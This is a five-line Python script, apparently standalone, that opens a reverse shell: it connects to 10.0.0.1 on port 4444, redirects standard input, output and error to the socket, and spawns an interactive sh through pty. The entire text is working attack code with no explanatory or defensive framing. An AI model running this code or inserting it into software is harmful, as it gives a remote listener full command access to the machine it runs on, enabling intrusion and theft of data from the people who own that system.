import socket, pty, os
s = socket.create_connection(("10.0.0.1", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("sh")
